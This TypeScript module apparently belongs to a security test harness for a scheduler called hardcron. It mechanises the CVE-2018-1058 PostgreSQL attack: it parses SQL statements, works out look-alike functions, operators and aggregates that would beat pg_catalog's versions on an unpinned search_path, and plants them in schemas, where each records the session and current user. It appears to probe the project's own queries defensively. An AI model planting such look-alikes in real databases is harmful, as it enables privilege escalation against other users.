import type pg from 'pg';
import { splitStatements } from './pg-wire.ts';

/**
 * Look-alikes of the functions and operators a set of statements uses: the CVE-2018-1058
 * attack, made mechanically. Each statement is parsed by PostgreSQL itself (as the body of a
 * `BEGIN ATOMIC` SQL function, whose stored parse tree names every operator and function it
 * resolved, with the types of their arguments before any implicit cast). For every call that
 * resolved to pg_catalog, a look-alike takes the arguments' own types, so that, on a path that
 * reaches the look-alike's schema, it is a closer match than pg_catalog's and wins. Each
 * look-alike records `session_user` and `current_user` in a table before it returns null.
 */

const PG_CATALOG_NAMESPACE = 11;
/** Parse-tree nodes that cast their argument implicitly, with the field that says how. */
const IMPLICIT_FORMAT_FIELD: Record<string, string> = {
  FUNCEXPR: 'funcformat',
  RELABELTYPE: 'relabelformat',
  COERCEVIAIO: 'coerceformat',
  ARRAYCOERCEEXPR: 'coerceformat',
  COERCETODOMAIN: 'coercionformat',
  CONVERTROWTYPEEXPR: 'convertformat',
};
const COERCE_EXPLICIT_CALL = '0';
const COERCE_IMPLICIT_CAST = '2';
const BOOL = 16;
const TEXT = 25;
const UNKNOWN = 705;

type Value = string | Node | Value[];
interface Node {
  readonly type: string;
  readonly fields: Record<string, Value[]>;
}

/** A call in a parse tree: what PostgreSQL resolved, and the types of the arguments it was given. */
export interface Call {
  readonly kind: 'function' | 'operator' | 'aggregate';
  /** pg_proc oid (function, aggregate) or pg_operator oid (operator). */
  readonly oid: number;
  /** Argument types before implicit casts; for `x op ANY (array)`, the array's element type. */
  readonly argTypes: number[];
  /** Which arguments were constants (an untyped literal takes the type its candidate asks for). */
  readonly constants: boolean[];
  readonly resultType: number;
}

export interface Analysis {
  readonly calls: Call[];
  /** Statements parsed and searched for calls. */
  readonly analysed: string[];
  /** Statements not parsed as a query, with the reason (utility statements, DDL, …). */
  readonly skipped: Array<{ statement: string; reason: string }>;
}

/** One look-alike: a function, operator or aggregate with the name of one in pg_catalog. */
export interface Lookalike {
  readonly kind: 'function' | 'operator' | 'aggregate';
  readonly name: string;
  /** Type names (format_type); for an operator, [left, right] with null for a prefix operator. */
  readonly argTypes: Array<string | null>;
  readonly resultType: string;
}

export function lookalikeKey(l: Lookalike): string {
  return `${l.kind} ${l.name}(${l.argTypes.map((t) => t ?? 'NONE').join(', ')})`;
}

const QUERY = /^\s*(?:\(\s*)*(select|with|insert|update|delete|values|table)\b/i;

/**
 * Parses each statement of `texts` in the database of `admin` (a superuser session) on
 * `searchPath` (by default the path hardcron's sessions pin) and returns the calls the parse
 * trees hold.
 */
export async function analyseStatements(admin: pg.Client, texts: readonly string[], searchPath = 'pg_catalog, pg_temp'): Promise<Analysis> {
  const statements = [...new Set(texts.flatMap(splitStatements))];
  const calls: Call[] = [];
  const analysed: string[] = [];
  const skipped: Array<{ statement: string; reason: string }> = [];
  await admin.query('create schema if not exists hc_probe');
  for (const statement of statements) {
    const code = withoutLeadingComments(statement);
    if (!QUERY.test(code)) {
      skipped.push({ statement, reason: (/^\s*(\w+)/.exec(code)?.[1] ?? '?').toLowerCase() });
      continue;
    }
    await admin.query('begin');
    try {
      await admin.query(`set local search_path = ${searchPath}`);
      await admin.query(`prepare hc_probe_statement as ${statement}`);
      const { rows } = await admin.query<{ types: string[] }>(
        `select array(select pg_catalog.format_type(t, null) from pg_catalog.unnest(parameter_types::oid[]) t) as types
           from pg_catalog.pg_prepared_statements where name = 'hc_probe_statement'`,
      );
      await admin.query('deallocate hc_probe_statement');
      const parameters = (rows[0]?.types ?? []).join(', ');
      await admin.query(`create function hc_probe.statement(${parameters}) returns void begin atomic ${statement}; end`);
      // Read back on the pinned path: on another, a look-alike could answer this query too.
      await admin.query(`set local search_path = pg_catalog, pg_temp`);
      const body = await admin.query<{ body: string }>(
        `select prosqlbody::text as body from pg_catalog.pg_proc where proname = 'statement'
            and pronamespace = 'hc_probe'::regnamespace`,
      );
      calls.push(...callsOf(parseNodeTree(body.rows[0]?.body ?? '')));
      analysed.push(statement);
    } catch (error) {
      skipped.push({ statement, reason: `not parsed: ${(error as Error).message}` });
    } finally {
      await admin.query('rollback');
    }
  }
  return { calls, analysed, skipped };
}

/**
 * The look-alikes that beat the calls' pg_catalog targets on a path that reaches them: the
 * arguments' own types (and, for constants, the other arguments' types and text, as an untyped
 * literal would take them). A look-alike whose types equal the target's would only tie, and
 * pg_catalog wins ties: those are left out.
 */
export async function lookalikesFor(admin: pg.Client, calls: readonly Call[]): Promise<Lookalike[]> {
  const procs = new Map<number, { name: string; namespace: number; args: number[]; kind: string; variadic: number }>();
  const operators = new Map<number, { name: string; namespace: number; left: number; right: number }>();
  const typeNames = new Map<number, { name: string; pseudo: boolean; element: number }>();
  for (const row of (await admin.query<{ oid: number; name: string; namespace: number; args: string; kind: string; variadic: number }>(
    `select oid::int, proname::text as name, pronamespace::int as namespace, proargtypes::text as args, prokind::text as kind,
            provariadic::int as variadic from pg_catalog.pg_proc where oid = any($1::oid[])`,
    [calls.filter((c) => c.kind !== 'operator').map((c) => c.oid)],
  )).rows) {
    procs.set(row.oid, { ...row, args: row.args === '' ? [] : row.args.split(' ').map(Number) });
  }
  for (const row of (await admin.query<{ oid: number; name: string; namespace: number; left: number; right: number }>(
    `select oid::int, oprname::text as name, oprnamespace::int as namespace, oprleft::int as left, oprright::int as right
       from pg_catalog.pg_operator where oid = any($1::oid[])`,
    [calls.filter((c) => c.kind === 'operator').map((c) => c.oid)],
  )).rows) {
    operators.set(row.oid, row);
  }
  for (const row of (await admin.query<{ oid: number; name: string; pseudo: boolean; element: number }>(
    `select oid::int, pg_catalog.format_type(oid, null) as name, typtype = 'p' as pseudo, typelem::int as element from pg_catalog.pg_type`,
  )).rows) {
    typeNames.set(row.oid, row);
  }
  const named = (oid: number): string | null => {
    const type = typeNames.get(oid === UNKNOWN ? TEXT : oid);
    return type && !type.pseudo ? type.name : null;
  };

  const result = new Map<string, Lookalike>();
  for (const raw of calls) {
    // A negative type stands for the element type of that array type (x op ANY (array)).
    const call = { ...raw, argTypes: raw.argTypes.map((t) => (t < 0 ? typeNames.get(-t)?.element ?? 0 : t)) };
    const target = call.kind === 'operator' ? operators.get(call.oid) : procs.get(call.oid);
    if (!target || target.namespace !== PG_CATALOG_NAMESPACE || call.argTypes.length === 0) continue;
    const declared = 'args' in target ? target.args : [target.left, target.right].filter((t) => t !== 0);
    const resultType = typeNames.get(call.resultType);
    if (!resultType || (resultType.pseudo && resultType.name !== 'void')) continue;
    for (const types of variants(call)) {
      if (types.length === declared.length && types.every((t, i) => t === declared[i]) && !('variadic' in target && target.variadic !== 0)) continue;
      const names = types.map(named);
      if (names.some((n) => n === null)) continue;
      let lookalike: Lookalike;
      if (call.kind === 'operator') {
        const prefix = 'left' in target && target.left === 0;
        lookalike = { kind: 'operator', name: target.name, argTypes: prefix ? [null, names[0] as string] : names, resultType: resultType.name };
      } else {
        lookalike = { kind: call.kind, name: target.name, argTypes: names, resultType: resultType.name };
      }
      if (lookalike.kind === 'aggregate' && resultType.pseudo) continue;
      result.set(lookalikeKey(lookalike), lookalike);
    }
  }
  return [...result.values()].sort((a, b) => lookalikeKey(a).localeCompare(lookalikeKey(b)));
}

function withoutLeadingComments(statement: string): string {
  return statement.replace(/^(?:\s+|--[^\n]*(?:\n|$)|\/\*[\s\S]*?\*\/)*/, '');
}

function variants(call: Call): number[][] {
  const out: number[][] = [call.argTypes];
  call.argTypes.forEach((_, i) => {
    if (!call.constants[i]) return;
    const alternatives = new Set([TEXT, ...call.argTypes.filter((_, j) => j !== i)]);
    for (const type of alternatives) out.push(call.argTypes.map((t, j) => (j === i ? type : t)));
  });
  return out;
}

/**
 * Creates the look-alikes in each of `schemas` (created when missing) on the connection of the
 * attacking role. Each records a row in `hits` (a schema-qualified table `(session_user,
 * current_user, lookalike)` anyone may insert into) and counts in the sequence `${hits}_count`
 * (which a rollback does not undo), then returns what pg_catalog's own would, so that the
 * statement goes on and commits its record. Returns how many objects were created.
 */
export async function plantLookalikes(attacker: pg.Client, schemas: readonly string[], lookalikes: readonly Lookalike[], hits: string): Promise<number> {
  let created = 0;
  for (const schema of schemas) {
    const s = attacker.escapeIdentifier(schema);
    await attacker.query(`create schema if not exists ${s}; grant usage on schema ${s} to public`);
    for (const [i, l] of lookalikes.entries()) {
      const record = `insert into ${hits} values (session_user, current_user, ${attacker.escapeLiteral(`${schema}: ${lookalikeKey(l)}`)});
                      perform pg_catalog.nextval(${attacker.escapeLiteral(`${hits}_count`)})`;
      const args = l.argTypes.filter((t): t is string => t !== null);
      const params = args.map((_, n) => `$${n + 1}`);
      const genuine = l.kind === 'operator'
        ? `${l.argTypes[0] === null ? '' : '$1 '}operator(pg_catalog.${l.name}) $${params.length}`
        : `pg_catalog.${attacker.escapeIdentifier(l.name)}(${params.join(', ')})`;
      const body = l.resultType === 'void' ? `perform ${genuine}; return;` : `return ${genuine};`;
      if (l.kind === 'aggregate') {
        await attacker.query(`
          create function ${s}.hc_lookalike_${i}(${[l.resultType, ...args].join(', ')}) returns ${l.resultType}
            language plpgsql as $body$ begin ${record}; return null; end $body$;
          create aggregate ${s}.${attacker.escapeIdentifier(l.name)}(${args.join(', ')}) (sfunc = ${s}.hc_lookalike_${i}, stype = ${l.resultType})`);
      } else {
        await attacker.query(`
          create function ${s}.${l.kind === 'operator' ? `hc_lookalike_${i}` : attacker.escapeIdentifier(l.name)}(${args.join(', ')})
            returns ${l.resultType} language plpgsql as $body$ begin ${record}; ${body} end $body$`);
        if (l.kind === 'operator') {
          const [left, right] = l.argTypes;
          await attacker.query(
            `create operator ${s}.${l.name} (${left ? `leftarg = ${left}, ` : ''}rightarg = ${right as string}, function = ${s}.hc_lookalike_${i})`,
          );
        }
      }
      created++;
    }
  }
  return created;
}

/** Parses PostgreSQL's nodeToString output (e.g. pg_proc.prosqlbody) into nodes and lists. */
export function parseNodeTree(text: string): Value[] {
  const tokens = tokenize(text);
  let at = 0;
  const value = (): Value => {
    const token = tokens[at++] as string;
    if (token === '{') {
      const type = tokens[at++] as string;
      const fields: Record<string, Value[]> = {};
      while (tokens[at] !== '}' && at < tokens.length) {
        const key = (tokens[at++] as string).slice(1);
        const values: Value[] = [];
        while (at < tokens.length && tokens[at] !== '}' && !(tokens[at] as string).startsWith(':')) values.push(value());
        fields[key] = values;
      }
      at++;
      return { type, fields };
    }
    if (token === '(') {
      const items: Value[] = [];
      while (at < tokens.length && tokens[at] !== ')') items.push(value());
      at++;
      return items;
    }
    return token;
  };
  const out: Value[] = [];
  while (at < tokens.length) out.push(value());
  return out;
}

function tokenize(text: string): string[] {
  const tokens: string[] = [];
  let i = 0;
  while (i < text.length) {
    const c = text[i] as string;
    if (/\s/.test(c)) {
      i++;
    } else if ('(){}'.includes(c)) {
      tokens.push(c);
      i++;
    } else {
      let token = '';
      while (i < text.length && !/\s/.test(text[i] as string) && !'(){}'.includes(text[i] as string)) {
        if (text[i] === '\\' && i + 1 < text.length) i++;
        token += text[i];
        i++;
      }
      tokens.push(token);
    }
  }
  return tokens;
}

function isNode(value: Value | undefined): value is Node {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

function field(node: Node, name: string): string | undefined {
  const value = node.fields[name]?.[0];
  return typeof value === 'string' ? value : undefined;
}

function numberField(node: Node, name: string): number | null {
  const value = field(node, name);
  return value === undefined ? null : Number(value);
}

function args(node: Node): Value[] {
  const list = node.fields.args?.[0];
  // An aggregate's ORDER BY columns are arguments marked resjunk.
  return Array.isArray(list) ? list.filter((item) => !(isNode(item) && item.type === 'TARGETENTRY' && field(item, 'resjunk') === 'true')) : [];
}

/** The type of an expression node, or null where it cannot be told from the node alone. */
function exprType(node: Value | undefined): number | null {
  if (!isNode(node)) return null;
  switch (node.type) {
    case 'CONST': return numberField(node, 'consttype');
    case 'VAR': return numberField(node, 'vartype');
    case 'PARAM': return numberField(node, 'paramtype');
    case 'FUNCEXPR': return numberField(node, 'funcresulttype');
    case 'OPEXPR': case 'DISTINCTEXPR': case 'NULLIFEXPR': return numberField(node, 'opresulttype');
    case 'RELABELTYPE': case 'COERCEVIAIO': case 'ARRAYCOERCEEXPR': case 'CONVERTROWTYPEEXPR': case 'COERCETODOMAIN':
    case 'FIELDSELECT': return numberField(node, 'resulttype');
    case 'COLLATEEXPR': return exprType(node.fields.arg?.[0]);
    case 'CASEEXPR': return numberField(node, 'casetype');
    case 'COALESCEEXPR': return numberField(node, 'coalescetype');
    case 'MINMAXEXPR': return numberField(node, 'minmaxtype');
    case 'AGGREF': return numberField(node, 'aggtype');
    case 'WINDOWFUNC': return numberField(node, 'wintype');
    case 'SQLVALUEFUNCTION': return numberField(node, 'type');
    case 'ARRAYEXPR': return numberField(node, 'array_typeid');
    case 'ROWEXPR': return numberField(node, 'row_typeid');
    case 'SUBSCRIPTINGREF': return numberField(node, 'refrestype');
    case 'CASETESTEXPR': case 'COERCETODOMAINVALUE': case 'SETTODEFAULT': case 'NEXTVALUEEXPR': return numberField(node, 'typeId');
    case 'BOOLEXPR': case 'NULLTEST': case 'BOOLEANTEST': case 'SCALARARRAYOPEXPR': case 'CURRENTOFEXPR': return BOOL;
    case 'TARGETENTRY': return exprType(node.fields.expr?.[0]);
    default: return null;
  }
}

/** The type an argument had before the implicit casts the parser wrapped around it. */
function typeBeforeImplicitCasts(node: Value | undefined): number | null {
  let current = node;
  while (isNode(current)) {
    if (current.type === 'TARGETENTRY') {
      current = current.fields.expr?.[0];
      continue;
    }
    const formatField = IMPLICIT_FORMAT_FIELD[current.type];
    if (formatField && field(current, formatField) === COERCE_IMPLICIT_CAST) {
      current = current.type === 'FUNCEXPR' ? args(current)[0] : current.fields.arg?.[0];
      continue;
    }
    break;
  }
  return exprType(current);
}

function isConstant(node: Value | undefined): boolean {
  let current = node;
  while (isNode(current) && current.type !== 'CONST') {
    const formatField = IMPLICIT_FORMAT_FIELD[current.type];
    if (!(formatField && field(current, formatField) === COERCE_IMPLICIT_CAST) && current.type !== 'TARGETENTRY') return false;
    current = current.type === 'FUNCEXPR' ? args(current)[0] : (current.fields.arg ?? current.fields.expr)?.[0];
  }
  return isNode(current);
}

/** Every operator, function and aggregate call in a parse tree (the grammar's own pg_catalog.* calls excepted). */
export function callsOf(tree: Value[]): Call[] {
  const calls: Call[] = [];
  const visit = (value: Value | undefined): void => {
    if (Array.isArray(value)) {
      for (const item of value) visit(item);
      return;
    }
    if (!isNode(value)) return;
    const argList = args(value);
    const argTypes = argList.map(typeBeforeImplicitCasts);
    const resultType = exprType(value);
    const known = (types: Array<number | null>): types is number[] => types.every((t) => t !== null);
    const add = (kind: Call['kind'], oid: number | null, types: Array<number | null>): void => {
      if (oid !== null && resultType !== null && known(types)) {
        calls.push({ kind, oid, argTypes: types, constants: argList.map(isConstant), resultType });
      }
    };
    switch (value.type) {
      case 'OPEXPR': case 'DISTINCTEXPR': case 'NULLIFEXPR':
        add('operator', numberField(value, 'opno'), argTypes);
        break;
      case 'SCALARARRAYOPEXPR': {
        // x op ANY (array): the operator's right argument is the array's element type.
        const [left, right] = argTypes;
        calls.push(...(left != null && right != null ? [{ kind: 'operator' as const, oid: numberField(value, 'opno') as number, argTypes: [left, -right], constants: argList.map(isConstant), resultType: BOOL }] : []));
        break;
      }
      case 'FUNCEXPR':
        // Explicit calls only: casts are looked up in pg_cast, and SQL syntax (EXTRACT, AT TIME
        // ZONE, …) names its function pg_catalog.* in the grammar.
        if (field(value, 'funcformat') === COERCE_EXPLICIT_CALL) add('function', numberField(value, 'funcid'), argTypes);
        break;
      case 'AGGREF':
        if (field(value, 'aggstar') !== 'true') add('aggregate', numberField(value, 'aggfnoid'), argTypes);
        break;
      case 'WINDOWFUNC':
        add('function', numberField(value, 'winfnoid'), argTypes);
        break;
    }
    for (const values of Object.values(value.fields)) for (const item of values) visit(item);
  };
  visit(tree);
  return calls;
}

/** `analyseStatements` then `lookalikesFor`: the look-alikes of a set of SQL texts. */
export async function lookalikesOfStatements(admin: pg.Client, texts: readonly string[]): Promise<{ analysis: Analysis; lookalikes: Lookalike[] }> {
  const analysis = await analyseStatements(admin, texts);
  return { analysis, lookalikes: await lookalikesFor(admin, analysis.calls) };
}
